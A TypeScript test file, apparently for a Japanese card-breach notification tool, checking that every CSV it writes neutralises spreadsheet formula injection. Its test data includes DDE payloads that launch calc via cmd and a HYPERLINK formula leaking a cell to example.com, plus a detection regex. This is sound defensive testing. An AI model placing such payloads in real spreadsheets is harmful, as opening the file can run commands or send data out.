// Cells that a spreadsheet would run (OWASP, "CSV Injection"), in every column of what is handed in: no CSV that the program writes begins a
// field with one, and what our own readers read back is the text that was registered.
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { ASSOCIATION_HEADER } from '../../fixtures/generate/association-row.js';
import { csvFile, utf8Bytes, UTF8_BOM } from '../../fixtures/generate/csv-record.js';
import { unguarded } from '../../src/run/csv-text.js';
import { packageFile } from '../../src/run/input/package-file.js';
import { readCsvTable, type CsvLine } from '../support/csv-table.js';
import { registeredText } from '../support/registered-text.js';
import { runCli } from '../support/run-cli.js';
import { temporaryFolder } from '../support/temporary-folder.js';

const CELLS = [
  '=1+1', '+1+1', '-1+1', '@SUM(1+1)', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '　=1+1', "'=1+1", "''=1+1", '"=1+1"', '="=1+1"', '=1+1"', '=1+1,=1+1', ';=1+1', '\ufeff=1+1',
  '＝１＋１', '＋１', '－１', '＠ＳＵＭ（Ａ１）', '　＝１＋１',
  "=cmd|'/C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=2+5+cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")', '=HYPERLINK("http://example.com?leak="&A1,"山田")', '-2+3+cmd|\' /C calc\'!D2',
  '0012', '000101', '1-2-3', '3-14', '2021/12/1', '1E5', '九段\r\n南',
];
/** Where they are put, and what each is called in exceptions.csv. */
const COLUMNS: Readonly<Record<string, string | undefined>> = { '決済番号': undefined, '決済日時': '決済日時', '決済方法': '決済方法', '決済状況': '決済状況', '会員番号': '顧客番号', '氏名': '氏名', '会社名': '会社名', '町名番地': undefined, '建物名': undefined };
const RUNS_IN_A_SPREADSHEET = /^\s*[=+\-@＝＋－＠]|^[\t\r\n]/u;

const folder = temporaryFolder();
const written = (name: string): string => join(folder, name);
interface Put { readonly column: string; readonly cell: string }
const rows: Put[] = Object.keys(COLUMNS).flatMap((column) => CELLS.map((cell) => ({ column, cell })));
let lines: readonly number[];

beforeAll(async () => {
  const records = rows.map(({ column, cell }, index) => {
    const own: Readonly<Record<string, string>> = { '決済番号': `K${index}`, '決済日時': '2021/12/01 10:00:00', '決済方法': 'クレジットカード', '決済状況': '決済完了', '金額': '1000', '会員番号': `C${index}`, '氏名': `山田　${index}`, '会社名': '', '郵便番号': '104-0061', '都道府県': '東京都', '市区町村': '中央区', '町名番地': '銀座1-2-3', '建物名': '', [column]: cell };
    return ASSOCIATION_HEADER.map((name) => own[name] ?? '');
  });
  const { bytes, lines: [, ...below] } = csvFile([ASSOCIATION_HEADER, ...records], utf8Bytes);
  lines = below;
  writeFileSync(written('payments.csv'), Buffer.concat([UTF8_BOM, bytes]));
  writeFileSync(written('incident.yaml'), readFileSync(packageFile('templates/card-breach/incident.yaml'), 'utf8').replaceAll('見本', '実在'));
  writeFileSync(written('letter.md'), readFileSync(packageFile('templates/card-breach/letter.md'), 'utf8'));
  const made = await runCli(['generate', 'payments.csv', '--incident', 'incident.yaml', '--out', 'run'], { cwd: folder });
  expect([made.exitCode, made.stderr]).toEqual([1, expect.not.stringContaining('at ')]);
}, 120_000);

function table(path: string): readonly CsvLine[] {
  return readCsvTable(readFileSync(written(path))).lines;
}

function expectInert(under: string): number {
  const files = readdirSync(written(under), { recursive: true, encoding: 'utf8' }).filter((name) => name.endsWith('.csv'));
  for (const file of files) {
    const fields = table(join(under, file)).flatMap((line) => Object.values(line));
    expect([file, fields.filter((field) => RUNS_IN_A_SPREADSHEET.test(field))]).toEqual([file, []]);
  }
  return files.length;
}

test('no list of a run begins a field with one', () => {
  expect(expectInert('run')).toBe(5);
});

test('exceptions.csv and manifest.csv give back what is registered', () => {
  let held = 0;
  const byLine = new Map(lines.map((line, index) => [String(line), rows[index]]));
  for (const line of table('run/exceptions.csv').filter((one) => one['区分'] === '要確認')) {
    const put = byLine.get(line['行'] ?? '');
    const shown = COLUMNS[put?.column ?? ''];
    if (put === undefined || shown === undefined) continue;
    expect([shown, unguarded(line[shown] ?? '')]).toEqual([shown, registeredText(put.cell)]);
    held += 1;
  }
  expect(held).toBeGreaterThan(50);
  let printed = 0;
  for (const line of table('run/manifest.csv')) {
    const put = byLine.get(/:(\d+)$/.exec(line['出典'] ?? '')?.[1] ?? '');
    if (put?.column === '会員番号') expect(unguarded(line['顧客番号'] ?? '')).toBe(registeredText(put.cell));
    if (put?.column === '会社名') expect(unguarded(line['宛名'] ?? '').startsWith(registeredText(put.cell))).toBe(true);
    if (put?.column === '氏名') expect(unguarded(line['宛名'] ?? '')).toBe(registeredText(put.cell));
    printed += 1;
  }
  expect(printed).toBeGreaterThan(100);
});

test('handed back with 可 everywhere, the texts are printed as they were registered', async () => {
  const { header, lines: listed } = readCsvTable(readFileSync(written('run/exceptions.csv')));
  const accepted = [header, ...listed.map((line) => header.map((name) => (name === '確認' ? '可' : line[name] ?? '')))];
  writeFileSync(written('mended.csv'), Buffer.concat([UTF8_BOM, csvFile(accepted, utf8Bytes).bytes]));
  await runCli(['generate', 'payments.csv', '--incident', 'incident.yaml', '--corrections', 'mended.csv', '--out', 'again'], { cwd: folder });
  const names = table('again/manifest.csv').map((line) => unguarded(line['宛名'] ?? ''));
  for (const cell of ['=1+1', '@SUM(1+1)', "=cmd|'/C calc'!A0", '＝１＋１']) expect(names).toContain(cell);
  expectInert('again');
});

test('no record beside a run, and no list for a mailing house, begins a field with one', async () => {
  const numbers = table('run/manifest.csv').map((line) => line['発送番号'] ?? '');
  const given = (columns: readonly string[], records: readonly (readonly string[])[]): Uint8Array => Buffer.concat([UTF8_BOM, csvFile([columns, ...records], utf8Bytes).bytes]);
  writeFileSync(written('reached.csv'), given(['発送番号', '方法', '日付', '備考'], CELLS.map((cell, index) => [numbers[index] ?? '', registeredText(cell) === '' ? '電話' : cell, '2022-03-03', cell])));
  writeFileSync(written('returned.csv'), given(['発送番号', '返戻日', '理由'], CELLS.map((cell, index) => [numbers[index] ?? '', '2022-03-03', cell])));
  for (const args of [
    ['posted', 'run', '--batch', '1', '--date', '2022-03-01'], ['handled', 'run', '--file', 'reached.csv'], ['returns', 'run', '--file', 'returned.csv'], ['package', 'run', '--out', 'house'],
  ]) expect([args[0], await runCli(args, { cwd: folder })]).toEqual([args[0], expect.objectContaining({ exitCode: 0 })]);
  expect(expectInert('run')).toBe(8);
  expect(expectInert('house')).toBe(5);
  // A record is read back each time something is added to it, and a line is recorded once.
  const before = readFileSync(written('run/handled.csv'));
  expect((await runCli(['handled', 'run', '--file', 'reached.csv'], { cwd: folder })).exitCode).toBe(0);
  expect(readFileSync(written('run/handled.csv')).equals(before)).toBe(true);
  expect(table('run/handled.csv').map((line) => unguarded(line['備考'] ?? ''))).toEqual(CELLS.map(registeredText));
});
